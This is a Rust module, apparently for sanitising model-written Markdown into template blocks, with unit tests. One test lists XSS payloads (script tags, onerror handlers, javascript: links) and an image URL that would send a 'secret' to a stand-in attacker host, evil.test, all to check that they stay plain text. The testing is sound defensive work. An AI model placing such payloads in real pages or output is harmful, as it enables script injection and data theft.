//! Parses the Markdown of models into blocks for a template: paragraphs, headings, lists, code, bold and emphasis;
//! everything else remains text. The output is never markup, and only citations of known sources are links.

use serde::Serialize;
use std::collections::BTreeSet;

/// Longest text, in bytes; the rest is cut.
const TEXT_BYTES_MAX: usize = 128 * 1024;
/// Nesting of styles; deeper markers remain text.
const NESTING_MAX: u32 = 3;
/// Indentation at which a line belongs to the list item above.
const INDENT: usize = 2;

/// In templates: `blocks`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Block {
    pub kind: BlockKind,
    /// The lines of a paragraph, the items of a list.
    pub lines: Vec<Line>,
    /// The number of the first list item.
    pub start: u32,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum BlockKind {
    Paragraph,
    Heading,
    Bullets,
    Numbers,
    Code,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Line {
    /// True for an item nested below the previous one.
    pub is_deep: bool,
    pub pieces: Vec<Piece>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Piece {
    pub text: String,
    pub is_bold: bool,
    pub is_emphasis: bool,
    pub is_code: bool,
    /// The number of the cited source; only citations are links.
    pub cites: Option<u32>,
}

/// The blocks of a text; `sources` are the numbers that may be cited.
pub fn blocks(text: &str, sources: &BTreeSet<u32>) -> Vec<Block> {
    let text = &text[..text.floor_char_boundary(TEXT_BYTES_MAX)];
    let mut made: Vec<Block> = Vec::new();
    let mut is_open = false;
    let mut lines = text.lines();
    while let Some(line) = lines.next() {
        let trimmed = line.trim();
        if let Some(fence) = fence(trimmed) {
            let inside: Vec<&str> =
                lines.by_ref().take_while(|line| !line.trim().starts_with(fence)).collect();
            made.push(code_block(inside.join("\n")));
            is_open = false;
        } else if trimmed.is_empty() || is_rule(trimmed) {
            is_open = false;
        } else {
            let (kind, start, content) = read_line(line);
            let is_deep = line.len() - line.trim_start().len() >= INDENT;
            let pieces = inline(content, sources);
            is_open = put(&mut made, is_open, kind, start, Line { is_deep, pieces });
        }
    }
    made
}

/// Adds a line to the open block, or starts one. False if the block is complete.
fn put(made: &mut Vec<Block>, is_open: bool, kind: BlockKind, start: u32, line: Line) -> bool {
    use BlockKind::{Bullets, Numbers, Paragraph};
    let last = made.last_mut().filter(|_| is_open);
    match last {
        Some(block) if block.kind == kind => block.lines.push(line),
        // Indented lines belong to the list: a nested list, or more text of an item.
        Some(block) if matches!(block.kind, Bullets | Numbers) && line.is_deep => match kind {
            Bullets | Numbers => block.lines.push(line),
            _ => match block.lines.last_mut() {
                Some(item) => {
                    item.pieces.push(Piece::of(" ", Style::default()));
                    item.pieces.extend(line.pieces);
                }
                None => block.lines.push(line),
            },
        },
        _ => made.push(Block { kind, lines: vec![Line { is_deep: false, ..line }], start }),
    }
    matches!(kind, Paragraph | Bullets | Numbers)
}

fn code_block(text: String) -> Block {
    let piece = Piece { text, is_bold: false, is_emphasis: false, is_code: true, cites: None };
    Block { kind: BlockKind::Code, lines: vec![Line { is_deep: false, pieces: vec![piece] }], start: 1 }
}

fn fence(line: &str) -> Option<&'static str> {
    ["```", "~~~"].into_iter().find(|fence| line.starts_with(fence))
}

fn is_rule(line: &str) -> bool {
    line.len() >= 3 && ["-", "*", "_"].into_iter().any(|sign| line.replace(sign, "").is_empty())
}

/// The kind of block that a line starts, its number, and its text.
fn read_line(line: &str) -> (BlockKind, u32, &str) {
    let line = line.trim();
    let line = line.strip_prefix("> ").unwrap_or(line);
    let heading = line.trim_start_matches('#');
    let depth = line.len() - heading.len();
    if (1..=6).contains(&depth) && heading.starts_with(' ') {
        return (BlockKind::Heading, 1, heading.trim());
    }
    if let Some(item) = ["- ", "* ", "+ ", "• "].into_iter().find_map(|sign| line.strip_prefix(sign)) {
        return (BlockKind::Bullets, 1, item.trim());
    }
    let after = line.trim_start_matches(|c: char| c.is_ascii_digit());
    let item = after.strip_prefix(". ").or_else(|| after.strip_prefix(") "));
    match (line[..line.len() - after.len()].parse(), item) {
        (Ok(number @ 0..=999), Some(item)) => (BlockKind::Numbers, number, item.trim()),
        _ => (BlockKind::Paragraph, 1, line),
    }
}

#[derive(Debug, Clone, Copy, Default)]
struct Style {
    is_bold: bool,
    is_emphasis: bool,
    nesting: u32,
}

impl Piece {
    fn of(text: &str, style: Style) -> Self {
        let Style { is_bold, is_emphasis, .. } = style;
        Self { text: text.to_owned(), is_bold, is_emphasis, is_code: false, cites: None }
    }
}

fn inline(text: &str, sources: &BTreeSet<u32>) -> Vec<Piece> {
    let mut pieces = Vec::new();
    read_inline(text, Style::default(), sources, &mut pieces);
    pieces
}

fn read_inline(text: &str, style: Style, sources: &BTreeSet<u32>, pieces: &mut Vec<Piece>) {
    let mut plain = String::new();
    let mut at = 0;
    while let Some(sign) = text[at..].chars().next() {
        let (rest, before) = (&text[at..], text[..at].chars().next_back());
        if let Some((mark, inside)) = styled(rest, before).filter(|_| style.nesting < NESTING_MAX) {
            flush(&mut plain, style, pieces);
            let is_bold = style.is_bold || mark.len() == 2;
            let is_emphasis = style.is_emphasis || mark.len() == 1;
            let style = Style { is_bold, is_emphasis, nesting: style.nesting + 1 };
            read_inline(inside, style, sources, pieces);
            at += inside.len() + 2 * mark.len();
        } else if let Some(code) = inline_code(rest) {
            flush(&mut plain, style, pieces);
            pieces.push(Piece { is_code: true, ..Piece::of(code, style) });
            at += code.len() + 2;
        } else if let Some((number, length)) = citation(rest, sources) {
            plain.truncate(plain.trim_end().len());
            flush(&mut plain, style, pieces);
            pieces.push(Piece { cites: Some(number), ..Piece::of(&number.to_string(), style) });
            at += length;
        } else {
            let escaped = rest.strip_prefix('\\').and_then(|rest| rest.chars().next());
            let shown = escaped.filter(char::is_ascii_punctuation);
            at += sign.len_utf8() + shown.map_or(0, char::len_utf8);
            plain.push(shown.unwrap_or(sign));
        }
    }
    flush(&mut plain, style, pieces);
}

fn flush(plain: &mut String, style: Style, pieces: &mut Vec<Piece>) {
    if !plain.is_empty() {
        pieces.push(Piece::of(plain, style));
        plain.clear();
    }
}

/// A leading marker, and the text up to the matching one. Markers within words are text.
fn styled(rest: &str, before: Option<char>) -> Option<(&'static str, &str)> {
    let mark = ["**", "__", "*", "_"].into_iter().find(|mark| rest.starts_with(mark))?;
    if before.is_some_and(char::is_alphanumeric) {
        return None;
    }
    let body = &rest[mark.len()..];
    let inside = &body[..body.find(mark)?];
    let after = body[inside.len() + mark.len()..].chars().next();
    let is_tight = inside.trim() == inside && !inside.is_empty();
    (is_tight && !after.is_some_and(char::is_alphanumeric)).then_some((mark, inside))
}

fn inline_code(rest: &str) -> Option<&str> {
    let body = rest.strip_prefix('`')?;
    body.find('`').map(|end| &body[..end]).filter(|code| !code.is_empty())
}

/// `[n]` of a known source, and its length.
fn citation(rest: &str, sources: &BTreeSet<u32>) -> Option<(u32, usize)> {
    let body = rest.strip_prefix('[')?;
    let digits = &body[..body.find(|c: char| !c.is_ascii_digit())?];
    let number = digits.parse().ok().filter(|number| sources.contains(number))?;
    body[digits.len()..].starts_with(']').then_some((number, digits.len() + 2))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The blocks in a short notation: `p`, `h`, `ul`, `ol` or `pre`, and the pieces with their style before them.
    fn shown(text: &str) -> String {
        let made = blocks(text, &BTreeSet::from([1, 2, 12]));
        let block = |block: &Block| {
            let name = match block.kind {
                BlockKind::Paragraph => "p".to_owned(),
                BlockKind::Heading => "h".to_owned(),
                BlockKind::Bullets => "ul".to_owned(),
                BlockKind::Numbers => format!("ol{}", block.start),
                BlockKind::Code => "pre".to_owned(),
            };
            let lines: Vec<String> = block.lines.iter().map(line).collect();
            format!("{name}({})", lines.join(" / "))
        };
        made.iter().map(block).collect::<Vec<_>>().join(" ")
    }

    fn line(line: &Line) -> String {
        let piece = |piece: &Piece| {
            let signs = [(piece.is_bold, "b:"), (piece.is_emphasis, "i:"), (piece.is_code, "c:")];
            let style: String = signs.into_iter().filter(|(is_on, _)| *is_on).map(|(_, sign)| sign).collect();
            match piece.cites {
                Some(number) => format!("{style}^{number}"),
                None => format!("{style}{}", piece.text),
            }
        };
        let pieces: Vec<String> = line.pieces.iter().map(piece).collect();
        format!("{}{}", if line.is_deep { "+" } else { "" }, pieces.join("|"))
    }

    #[test]
    fn markdown_in_blocks() {
        for (text, expected) in [
            ("", ""),
            ("It rose [1].", "p(It rose|^1|.)"),
            ("One. [1]\nTwo. [2]", "p(One.|^1 / Two.|^2)"),
            ("One.\n\n\nTwo.", "p(One.) p(Two.)"),
            ("# Title\nText", "h(Title) p(Text)"),
            ("#tag is text", "p(#tag is text)"),
            ("- a\n* b\n+ c\n• d", "ul(a / b / c / d)"),
            ("3. a\n4) b", "ol3(a / b)"),
            ("1. a\n   - b\n   more\n2. c", "ol1(a / +b| |more / c)"),
            ("2024. was dry", "p(2024. was dry)"),
            ("> said", "p(said)"),
            ("a\n---\nb", "p(a) p(b)"),
            ("```rust\nlet a = \"<b>\";\n[1]\n```\nend", "pre(c:let a = \"<b>\";\n[1]) p(end)"),
            ("~~~\nopen", "pre(c:open)"),
            ("**bold** and *soft* and _soft_", "p(b:bold| and |i:soft| and |i:soft)"),
            ("**bold [1] *both***", "p(b:bold|b:^1|b: *both|*)"),
            ("**a _b_ [12]**.", "p(b:a |b:i:b|b:^12|.)"),
            ("use `a*b*c [1]` here", "p(use |c:a*b*c [1]| here)"),
            ("2*3*4 snake_case_name a ** b", "p(2*3*4 snake_case_name a ** b)"),
            ("\\*plain\\* \\[1]", "p(*plain* [1])"),
            ("not known [3], no number [a], [99999999999]", "p(not known [3], no number [a], [99999999999])"),
        ] {
            assert_eq!(shown(text), expected, "{text}");
        }
    }

    #[test]
    fn hostile_texts_stay_text() {
        for text in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[click](javascript:alert(1))",
            "![x](https://evil.test/?q=secret)",
            "<https://evil.test>",
            "[1](https://evil.test)",
            "[ref]: https://evil.test",
            "&lt;b&gt; \u{202e}gnp.exe",
            "<a href=\"#\" onclick=\"x\">[1]</a>",
            "https://evil.test/",
        ] {
            let made = blocks(text, &BTreeSet::from([1]));
            let pieces: Vec<&Piece> = made.iter().flat_map(|b| &b.lines).flat_map(|l| &l.pieces).collect();
            let joined: String = pieces
                .iter()
                .map(|piece| piece.cites.map_or_else(|| piece.text.clone(), |number| format!("[{number}]")))
                .collect();
            assert_eq!(joined, text, "every sign is still there, as text");
            assert!(pieces.iter().all(|piece| piece.cites.is_none() || piece.text == "1"), "{text}");
        }
    }

    #[test]
    fn texts_are_bounded_and_deep_marks_end() {
        let long = "é".repeat(TEXT_BYTES_MAX);
        let made = blocks(&long, &BTreeSet::new());
        assert_eq!(made[0].lines[0].pieces[0].text.len(), TEXT_BYTES_MAX);
        let deep = format!("{}x{}", "**a _b ".repeat(5000), " b_ a**".repeat(5000));
        assert!(!blocks(&deep, &BTreeSet::new()).is_empty());
        let unclosed = "**a [1 `".repeat(10_000);
        assert!(!blocks(&unclosed, &BTreeSet::from([1])).is_empty());
    }
}
